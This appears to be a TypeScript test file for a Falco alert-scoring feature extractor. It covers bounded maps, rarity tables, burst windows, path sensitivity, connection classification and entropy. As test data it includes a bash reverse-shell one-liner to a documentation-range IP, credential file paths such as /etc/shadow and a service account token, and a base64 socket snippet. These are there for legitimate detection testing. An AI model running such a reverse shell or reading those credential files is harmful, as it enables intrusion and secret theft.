import type { FalcoAlert } from '../../../contracts';
import { BoundedMap } from '../../../gate/features/bounded-map';
import { alertSubject, FEATURE_COUNT, FEATURE_NAMES, FeatureExtractor } from '../../../gate/features/extractor';
import { MAX_RARITY_BITS, RarityTable } from '../../../gate/features/rarity';
import { CONNECTION, connectionClass, isPrivateAddress, PATH_SENSITIVITY, pathSensitivity } from '../../../contracts/alert-signals';
import { shannonEntropy } from '../../../gate/features/signals';
import { MAX_RULES_PER_SUBJECT, SubjectWindows } from '../../../gate/features/subject-windows';
import { exampleAlerts } from '../../helpers/fixtures';

const feature = (row: Float64Array, name: (typeof FEATURE_NAMES)[number]) => row[FEATURE_NAMES.indexOf(name)]!;
const shellAlert = (): FalcoAlert => structuredClone(exampleAlerts().find((a) => a.rule === 'Terminal shell in container' && a.priority === 'Critical')!);
const at = (a: FalcoAlert, iso: string, extra: FalcoAlert['output_fields'] = {}): FalcoAlert => ({ ...a, time: iso, output_fields: { ...a.output_fields, ...extra } });

describe('BoundedMap', () => {
  it('never holds more than its bound', () => {
    const m = new BoundedMap<number, number>(10);
    for (let i = 0; i < 1000; i++) {
      m.set(i, i);
      expect(m.size).toBeLessThanOrEqual(10);
    }
    expect(m.evictions).toBe(1000 - m.size);
    expect(() => new BoundedMap(0)).toThrow('positive integer');
  });

  it('keeps a key that is used, and forgets the ones that are not', () => {
    const m = new BoundedMap<string, number>(4);
    m.set('kept', 1);
    for (let i = 0; i < 100; i++) {
      m.set(`other-${i}`, i);
      expect(m.get('kept')).toBe(1);
    }
    expect(m.peek('other-0')).toBeUndefined();
    expect(m.peek('other-99')).toBe(99);
  });

  it('peek does not keep a key alive', () => {
    const m = new BoundedMap<string, number>(4);
    m.set('peeked', 1);
    for (let i = 0; i < 10; i++) {
      m.set(`other-${i}`, i);
      m.peek('peeked');
    }
    expect(m.peek('peeked')).toBeUndefined();
  });

  it('updates in place and lists the oldest entries first', () => {
    const m = new BoundedMap<string, number>(4);
    m.set('a', 1);
    m.set('b', 2);
    m.set('c', 3); // a and b move to the old generation
    m.set('a', 10);
    expect([...m.entries()]).toEqual([['b', 2], ['c', 3], ['a', 10]]);
  });
});

describe('RarityTable', () => {
  it('is log2((n+1)/(count+1)) bits, measured before the observation', () => {
    const t = new RarityTable(100);
    expect(t.rarityThenObserve('sh')).toBe(0); // nothing seen: log2(1/1)
    for (let i = 0; i < 6; i++) t.observe('sh');
    t.observe('xmrig');
    expect(t.rarity('sh')).toBeCloseTo(Math.log2(9 / 8));
    expect(t.rarity('xmrig')).toBeCloseTo(Math.log2(9 / 2));
    expect(t.rarity('never-seen')).toBeCloseTo(Math.log2(9));
  });

  it('starts from a snapshot and stays within its bound, keeping the frequent keys', () => {
    const t = new RarityTable(2, { total: 100, counts: [['common', 90], ['uncommon', 9], ['rare', 1]] });
    expect(t.size).toBe(2);
    expect(t.rarity('common')).toBeCloseTo(Math.log2(101 / 91));
    expect(t.rarity('rare')).toBeCloseTo(Math.log2(101));
    expect(t.snapshot().counts).toEqual([['common', 90], ['uncommon', 9]]);
    const huge = new RarityTable(1, { total: 2 ** 40, counts: [] });
    expect(huge.rarity('x')).toBe(MAX_RARITY_BITS);
  });
});

describe('SubjectWindows', () => {
  const w = () => new SubjectWindows({ burstHalfLifeMs: 60_000, distinctRulesWindowMs: 600_000, maxSubjects: 3 });

  it('counts a burst and lets it decay with a half-life', () => {
    const s = w();
    expect(s.observe('pod', 'r', 0).burst).toBe(1);
    expect(s.observe('pod', 'r', 0).burst).toBe(2);
    expect(s.observe('pod', 'r', 60_000).burst).toBeCloseTo(2); // 2 halved + 1
    expect(s.observe('pod', 'r', 60_000 + 600_000).burst).toBeCloseTo(1 + 2 / 1024);
  });

  it('counts a late alert at what it is worth now, so old events interleaved never fake a burst', () => {
    const s = w();
    for (let i = 0; i < 8; i++) s.observe('pod', 'r', 600_000);
    expect(s.observe('pod', 'r', 540_000).burst).toBeCloseTo(8.5 / 2); // one half-life late: half the burst
    expect(s.observe('pod', 'r', 0).burst).toBe(1); // ten half-lives late: no burst
    expect(s.observe('pod', 'r', 600_000).burst).toBeCloseTo(9.5 + 2 ** -10);
  });

  it('counts, for a late alert, only the rules around its own time', () => {
    const s = w();
    s.observe('pod', 'a', 10_000_000);
    s.observe('pod', 'b', 10_000_000);
    expect(s.observe('pod', 'c', 0).distinctRules).toBe(1);
  });

  it('counts distinct rules within the window only, bounded per subject', () => {
    const s = w();
    s.observe('pod', 'a', 0);
    s.observe('pod', 'b', 1000);
    expect(s.observe('pod', 'c', 2000).distinctRules).toBe(3);
    expect(s.observe('pod', 'a', 2000).distinctRules).toBe(3);
    expect(s.observe('pod', 'd', 700_000).distinctRules).toBe(1); // a, b, c are older than 10 minutes
    const many = w();
    for (let i = 0; i < 40; i++) many.observe('pod', `rule-${i}`, i);
    expect(many.observe('pod', 'rule-last', 50).distinctRules).toBe(MAX_RULES_PER_SUBJECT);
  });

  it('holds at most maxSubjects subjects, and at least half as many', () => {
    const s = new SubjectWindows({ burstHalfLifeMs: 60_000, distinctRulesWindowMs: 600_000, maxSubjects: 100 });
    for (let i = 0; i < 1000; i++) s.observe(`pod-${i}`, 'r', i);
    expect(s.size).toBeLessThanOrEqual(100);
    expect(s.size).toBeGreaterThanOrEqual(50);
    expect(s.evictions).toBe(1000 - s.size);
  });
});

describe('signals', () => {
  it('grades paths: credentials above system directories above nothing', () => {
    expect(pathSensitivity(['/var/run/secrets/kubernetes.io/serviceaccount/token'])).toBe(PATH_SENSITIVITY.credentials);
    expect(pathSensitivity([undefined, 'cat /etc/shadow'])).toBe(PATH_SENSITIVITY.credentials);
    expect(pathSensitivity(['/usr/bin/kubelet-helper'])).toBe(PATH_SENSITIVITY.system);
    expect(pathSensitivity(['/usr/bin/x', '/root/.ssh/id_rsa'])).toBe(PATH_SENSITIVITY.credentials);
    expect(pathSensitivity(['/app/config.yaml', 'ls /tmp'])).toBe(PATH_SENSITIVITY.none);
  });

  it('classifies the remote end of a connection, including a reverse shell in the command line', () => {
    expect(connectionClass('172.17.0.9:43812->10.96.0.1:443', undefined, undefined)).toBe(CONNECTION.private);
    expect(connectionClass('10.244.3.17:40112->203.0.113.66:4444', undefined, undefined)).toBe(CONNECTION.public);
    expect(connectionClass(undefined, '198.51.100.7', undefined)).toBe(CONNECTION.public);
    expect(connectionClass(undefined, undefined, 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1')).toBe(CONNECTION.public);
    expect(connectionClass('/etc/passwd', undefined, 'cat /etc/passwd')).toBe(CONNECTION.none);
    expect(['10.0.0.1', '172.31.255.255', '192.168.1.1', '127.0.0.1', '100.64.0.1', 'fd00::1'].every(isPrivateAddress)).toBe(true);
    expect(['8.8.8.8', '172.32.0.1', '2001:db8::1', 'pool.example.com'].some(isPrivateAddress)).toBe(false);
  });

  it('measures entropy in bits per character', () => {
    expect(shannonEntropy(undefined)).toBe(0);
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBeCloseTo(2);
    expect(shannonEntropy('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9z')).toBeGreaterThan(4.5);
  });
});

describe('FeatureExtractor', () => {
  it('writes exactly FEATURE_NAMES, all finite, for every example alert', () => {
    const fx = new FeatureExtractor();
    for (const a of exampleAlerts()) {
      const row = fx.row(a);
      expect(row).toHaveLength(FEATURE_COUNT);
      expect(Array.from(row).every(Number.isFinite)).toBe(true);
    }
    expect(new Set(FEATURE_NAMES).size).toBe(FEATURE_COUNT);
  });

  it('reads the facts of an alert into their features', () => {
    const fx = new FeatureExtractor({ criticalNamespaces: ['kube-system'] });
    const a = at(shellAlert(), '2026-11-20T03:00:00Z', { 'k8s.ns.name': 'kube-system', 'proc.cmdline': 'cat /etc/shadow', 'fd.name': '10.0.0.1:1->203.0.113.5:4444' });
    const row = fx.row(a);
    expect(feature(row, 'priority')).toBe(5); // Critical
    expect(feature(row, 'in_container')).toBe(1);
    expect(feature(row, 'k8s_audit')).toBe(0);
    expect(feature(row, 'sensitive_path')).toBe(PATH_SENSITIVITY.credentials);
    expect(feature(row, 'outbound_connection')).toBe(CONNECTION.public);
    expect(feature(row, 'namespace_critical')).toBe(1);
    expect(feature(row, 'user_root')).toBe(1);
    fx.setCriticalNamespaces([]);
    expect(feature(fx.row(a), 'namespace_critical')).toBe(0);
  });

  it('sees a burst and a chain of rules on one workload, by the alerts own time', () => {
    const fx = new FeatureExtractor();
    const a = shellAlert();
    let row = fx.row(at(a, '2026-11-20T09:00:00Z'));
    expect(feature(row, 'workload_burst_rate')).toBe(0);
    for (let s = 1; s <= 6; s++) row = fx.row(at(a, `2026-11-20T09:00:0${s}Z`));
    expect(feature(row, 'workload_burst_rate')).toBeCloseTo(Math.log2(7), 0);
    row = fx.row({ ...at(a, '2026-11-20T09:00:08Z'), rule: 'Read sensitive file untrusted' });
    expect(feature(row, 'workload_distinct_rules')).toBe(2);
    // Another workload is a different subject.
    row = fx.row(at(a, '2026-11-20T09:00:09Z', { 'k8s.pod.name': 'elsewhere' }));
    expect(feature(row, 'workload_burst_rate')).toBe(0);
  });

  it('makes a rule rare until it has been seen, and starts from a baseline when given one', () => {
    const fx = new FeatureExtractor();
    const common = shellAlert();
    for (let i = 0; i < 50; i++) fx.observeRarity(common);
    const trained = new FeatureExtractor({ baseline: fx.baseline() });
    expect(feature(trained.row(common), 'rule_rarity')).toBeLessThan(0.1);
    const novel = { ...common, rule: 'Fileless execution via memfd_create', output_fields: { ...common.output_fields, 'proc.name': 'xmrig' } };
    const row = trained.row(novel);
    expect(feature(row, 'rule_rarity')).toBeCloseTo(Math.log2(52));
    // New to this workload: the rule, the behaviour and the process were never seen here.
    expect(feature(row, 'workload_rule_rarity')).toBe(10);
    expect(feature(row, 'workload_behaviour_rarity')).toBe(10);
    expect(feature(row, 'workload_process_rarity')).toBe(10);
    expect(feature(trained.row(novel), 'rule_rarity')).toBeCloseTo(Math.log2(53 / 2)); // learnt online
    const frozen = new FeatureExtractor({ baseline: fx.baseline(), learnRarity: false });
    frozen.row(novel);
    expect(feature(frozen.row(novel), 'rule_rarity')).toBeCloseTo(Math.log2(51));
    expect(feature(frozen.row(common), 'workload_behaviour_rarity')).toBeLessThan(5);
  });

  it('keys on the workload: what is normal for node-exporter stays normal after a rollout, and stays new for checkout', () => {
    const read = (ns: string, pod: string) => at(shellAlert(), '2026-11-20T09:00:00Z', { 'k8s.ns.name': ns, 'k8s.pod.name': pod, 'proc.name': 'node_exporter', 'fd.name': '/host/etc/shadow' });
    const counter = new FeatureExtractor();
    for (let i = 0; i < 200; i++) counter.observeRarity({ ...read('monitoring', 'node-exporter-x7k2p'), rule: 'Read sensitive file untrusted' });
    for (let i = 0; i < 200; i++) counter.observeRarity({ ...read('shop', 'checkout-7d9f8b6c5d-x2x4z'), rule: 'Contact K8S API Server From Container' });
    const gate = new FeatureExtractor({ baseline: counter.baseline(), learnRarity: false });
    const afterRollout = gate.row({ ...read('monitoring', 'node-exporter-9bzrt'), rule: 'Read sensitive file untrusted' });
    const inCheckout = gate.row({ ...read('shop', 'checkout-5c4b7fd89-q8wpl'), rule: 'Read sensitive file untrusted' });
    expect(feature(afterRollout, 'workload_behaviour_rarity')).toBeLessThan(3);
    expect(feature(inCheckout, 'workload_behaviour_rarity')).toBe(10);
    expect(feature(inCheckout, 'workload_rule_rarity')).toBe(10);
    const subject = alertSubject({ ...read('shop', 'checkout-5c4b7fd89-q8wpl') });
    expect(gate.firstForWorkload({ ...read('shop', 'x'), rule: 'Read sensitive file untrusted' }, subject, 20)).toBe(true);
    expect(gate.firstForWorkload({ ...read('shop', 'x'), rule: 'Contact K8S API Server From Container' }, subject, 20)).toBe(false);
    expect(gate.firstForWorkload({ ...read('shop', 'x'), rule: 'Read sensitive file untrusted' }, subject, 500)).toBe(false);
  });

  it('gives the same rows for the same stream (replay equals live)', () => {
    const stream = exampleAlerts();
    const rows = (fx: FeatureExtractor) => stream.map((a) => Array.from(fx.row(a)));
    expect(rows(new FeatureExtractor())).toEqual(rows(new FeatureExtractor()));
  });
});

describe('BoundedMap.update', () => {
  it('returns the old value and stores the new one, in either generation, within the bound', () => {
    const m = new BoundedMap<string, number>(4);
    expect(m.update('a', (v) => (v ?? 0) + 1)).toBeUndefined();
    expect(m.update('a', (v) => (v ?? 0) + 1)).toBe(1);
    m.set('b', 1);
    m.set('c', 1); // a and b age into the old generation
    expect(m.update('a', (v) => (v ?? 0) + 1)).toBe(2);
    expect(m.peek('a')).toBe(3);
    for (let i = 0; i < 20; i++) m.update(`k${i}`, () => i);
    expect(m.size).toBeLessThanOrEqual(4);
  });
});
